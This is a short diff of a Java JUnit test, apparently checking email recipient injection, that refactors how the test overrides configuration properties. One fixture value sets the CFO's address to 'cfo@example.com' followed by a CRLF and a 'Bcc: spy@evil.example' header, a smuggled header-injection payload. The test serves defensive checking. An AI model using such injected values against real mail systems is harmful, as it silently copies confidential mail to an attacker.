@@ -15,10 +15,9 @@ import org.junit.jupiter.api.Test;
 class RecipientInjectionTest extends DemoPipelineTestSupport {
 
     @Override
-    protected Properties useOverridePropertiesWithPropertiesComponent() {
-        Properties p = super.useOverridePropertiesWithPropertiesComponent();
+    protected void overrideProperties(Properties p) {
+        super.overrideProperties(p);
         p.put("mail.to.cfo", "cfo@example.com\r\nBcc: spy@evil.example");
-        return p;
     }
 
     @Test
